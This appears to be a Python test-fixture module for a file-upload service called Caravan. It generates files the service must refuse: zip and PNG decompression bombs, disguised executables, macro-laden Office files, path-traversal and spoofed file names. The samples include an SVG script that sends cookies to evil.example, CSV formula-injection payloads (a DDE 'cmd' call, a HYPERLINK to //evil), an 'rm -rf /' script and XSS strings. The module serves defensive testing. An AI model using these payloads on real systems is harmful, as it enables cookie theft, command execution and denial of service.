"""Makes files that must be refused because they are damaged, disguised or harmful, as anybody could send them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.fakes.files import good

MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Bad:
    """Describes a bad file: its name, a function that makes its content, and the reason for which Caravan refuses
    it."""

    name: str
    make: Callable[[], bytes]
    reason: str


def _png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of_size(width: int, height: int, pixels: bytes = b"") -> bytes:
    """Returns a PNG that claims this width and height. The compressed pixels are `pixels`, or by default just a
    thousand zeros."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = pixels or zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """Returns a small PNG file of 40,000 × 40,000 pixels, which would need 4.5 GB of memory. The file has only the
    first 400 rows of pixels."""
    squeeze = zlib.compressobj(9)
    row = b"\0" * (1 + 40_000 * 3)
    body = b"".join(squeeze.compress(row) for _ in range(400)) + squeeze.flush()
    return png_of_size(40_000, 40_000, body)


def zip_bomb(parts: int = 40, each: int = 64 * MEGABYTE) -> bytes:
    """Returns a small Excel document with many sheets of zeros, which unpack to a thousand times its size (320 MB by
    default)."""
    zeros = bytes(MEGABYTE)
    file = io.BytesIO(good.office("xlsx"))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(parts):
            with archive.open(f"xl/worksheets/sheet{number}.xml", "w") as part:
                for _ in range(min(each // MEGABYTE, 8)):
                    part.write(zeros)
    return file.getvalue()


def zip_that_lies() -> bytes:
    """Returns an Excel document that gives a wrong size for one of its parts: 4 GB instead of 4 MB."""
    content = bytearray(good.office("xlsx", {"xl/big.xml": bytes(4 * MEGABYTE)}))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"xl/big.xml"))
    content[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(content)


def overlapping_zip() -> bytes:
    """Returns a Word document in whose zip directory many entries point to the same bytes (as in "a better zip
    bomb")."""
    content = good.office("docx")
    at = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[at : content.index(b"PK\x01\x02", at + 4)]
    copies = b"".join(entry.replace(b"[Content_Types].xml", b"[Content_Type%03d].xm" % number) for number in range(500))
    directory = content[at:end] + copies
    count = struct.unpack("<H", content[end + 10 : end + 12])[0] + 500
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), at, 0)
    return content[:at] + directory + tail


def encrypted(kind: str) -> bytes:
    """Returns a document (`kind` is xlsx or docx) whose parts are marked as encrypted."""
    content = bytearray(good.office(kind))
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return bytes(content)


def macro_types() -> bytes:
    """Returns an Excel document whose content type says that it has macros, without a part of the usual name for
    macros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return file.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>'
HTML = b"<!doctype html><script>alert(document.domain)</script>"
_GIF = b"\x80\0\0\0\0\0\xff\xff\xff," + struct.pack("<HHHH", 0, 0, 60_000, 60_000) + b"\0\x02\x02L\x01\0;"
OLD_EXCEL = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1024)
JPEG = good.picture(640, 480)

BAD = {
    "empty": Bad("empty.pdf", lambda: b"", "empty"),
    "a program": Bad("setup.exe", lambda: b"MZ" + bytes(2000), "kind"),
    "a program called a picture": Bad("photo.jpg", lambda: b"MZ" + bytes(2000), "kind"),
    "a Linux program": Bad("offer.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(2000), "kind"),
    "a script": Bad("list.csv", lambda: b"#!/bin/sh\nrm -rf /, \nls -l, a\n", "kind"),
    "a web page called a table": Bad("prices.csv", lambda: HTML + b"\na,b\nc,d\n", "kind"),
    "a web page within a table": Bad("prices.csv", lambda: b"a,b\n1,<script>alert(1)</script>\n3,4\n", "kind"),
    "an SVG with a script": Bad("drawing.svg", lambda: SVG, "kind"),
    "an SVG called a photo": Bad("drawing.png", lambda: b'<?xml version="1.0"?>\n' + SVG, "kind"),
    "a film": Bad("film.pdf", lambda: b"\0\0\0\x18ftypisom" + bytes(2000), "kind"),
    "an archive": Bad("papers.zip", lambda: _archive(), "kind"),
    "an archive with a program": Bad("papers.xlsx", lambda: _archive(), "kind"),
    "a slide show": Bad("show.pptx", lambda: _slides(), "kind"),
    "words without columns": Bad("notes.csv", lambda: b"Dear Sir or Madam\nplease find our offer\n", "kind"),
    "noise": Bad("noise.csv", lambda: bytes(range(256)) * 20, "kind"),
    "old Excel": Bad("list.xls", lambda: OLD_EXCEL, "old_office"),
    "macros": Bad("list.xlsm", lambda: good.office("xlsx", {"xl/vbaProject.bin": b"x"}), "macros"),
    "macros called a Word document": Bad("a.docx", lambda: good.office("docx", {"word/vbaProject.bin": b"x"}), "macros"),
    "macros by their type": Bad("list.xlsx", macro_types, "macros"),
    "old macro sheets": Bad("list.xlsx", lambda: good.office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "macros"),
    "ActiveX": Bad("form.docx", lambda: good.office("docx", {"word/activeX/activeX1.xml": b"x"}), "macros"),
    "a program within a document": Bad("a.docx", lambda: good.office("docx", {"word/embeddings/a.exe": b"MZ"}), "macros"),
    "a table that calls a program": Bad("a.csv", lambda: b"name,price\n=cmd|'/C calc'!A0,3\ncup,4\n", "macros"),
    "a table that sends itself": Bad("a.csv", lambda: b'name,price\n"=HYPERLINK(""//evil""&A1)",3\ncup,4\n', "macros"),
    "a password": Bad("list.xlsx", lambda: encrypted("xlsx"), "locked"),
    "a zip bomb": Bad("list.xlsx", zip_bomb, "damaged"),
    "a zip that lies about its size": Bad("list.xlsx", zip_that_lies, "damaged"),
    "a zip whose parts overlap": Bad("a.docx", overlapping_zip, "damaged"),
    "a path out of the document": Bad("a.docx", lambda: good.office("docx", {"../../etc/passwd": b"x"}), "damaged"),
    "a document cut short": Bad("a.docx", lambda: good.office("docx")[:-30], "damaged"),
    "a document behind a web page": Bad("a.docx", lambda: b"PK\x03\x04" + HTML + good.office("docx"), "damaged"),
    "a PDF cut short": Bad("offer.pdf", lambda: good.pdf()[:-20], "damaged"),
    "a PDF with an archive behind it": Bad("offer.pdf", lambda: good.pdf(after=_archive()), "damaged"),
    "a PDF behind a web page": Bad("offer.pdf", lambda: HTML + good.pdf(), "kind"),
    "a photo cut short": Bad("photo.jpg", lambda: JPEG[: len(JPEG) // 2], "damaged"),
    "the beginning of a photo": Bad("photo.jpg", lambda: JPEG[:40], "damaged"),
    "a photo of noise": Bad("photo.jpg", lambda: JPEG[:300] + bytes(range(256)) * 40, "damaged"),
    "a PNG that claims 40,000 × 40,000 pixels": Bad("p.png", lambda: png_of_size(40_000, 40_000), "pixels"),
    "a PNG bomb of 40,000 × 40,000 pixels": Bad("p.png", png_bomb, "pixels"),
    "a PNG without a size": Bad("p.png", lambda: png_of_size(0, 0), "damaged"),
    "a GIF of 60,000 × 60,000 pixels": Bad("p.gif", lambda: b"GIF89a" + struct.pack("<HH", 60_000, 60_000) + _GIF, "pixels"),
    "50 MB": Bad("huge.pdf", lambda: b"%PDF-1.4\n" + bytes(50 * MEGABYTE), "too_large"),
}  # fmt: skip
"""The bad files, by what is wrong with them."""

POLYGLOTS = {
    "a photo that is an archive, too": Bad("p.jpg", lambda: JPEG + _archive(), ""),
    "a photo with a script in its comment": Bad("p.jpg", lambda: good.picture(comment=HTML), ""),
    "a PNG with a web page behind it": Bad("p.png", lambda: good.picture(picture_format="PNG") + HTML, ""),
    "a GIF that is a script": Bad("p.gif", lambda: good.picture(picture_format="GIF") + b"/*" + HTML + b"*/", ""),
}
"""Pictures that are also files of another kind. Caravan accepts such files and writes the pictures anew, so that
everything else in them is lost."""

HARMFUL = (b"<script", b"PK\x03\x04", b"PK\x05\x06")


def _archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("evil.exe", b"MZ" + bytes(100))
    return file.getvalue()


def _slides() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("ppt/presentation.xml", "<p/>")
    return file.getvalue()


NAMES = {
    "../../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\system32\\config.pdf": "config.pdf",
    "invoice\u202efdp.exe": "invoicefdp.pdf",
    "\u2066\u200boffer\u2069.pdf": "offer.pdf",
    "a\x00b.pdf": "ab.pdf",
    "con:aux|*?.pdf": "con aux.pdf",
    "x" * 400 + ".pdf": "x" * 116 + ".pdf",
    "<script>alert(1)</script>.pdf": "script.pdf",
    ".pdf": "document.pdf",
    "   ": "document.pdf",
}
"""Maps names of good files to the names that Caravan shows. A name that is shown is no path, does not hide its ending,
and is not too long."""
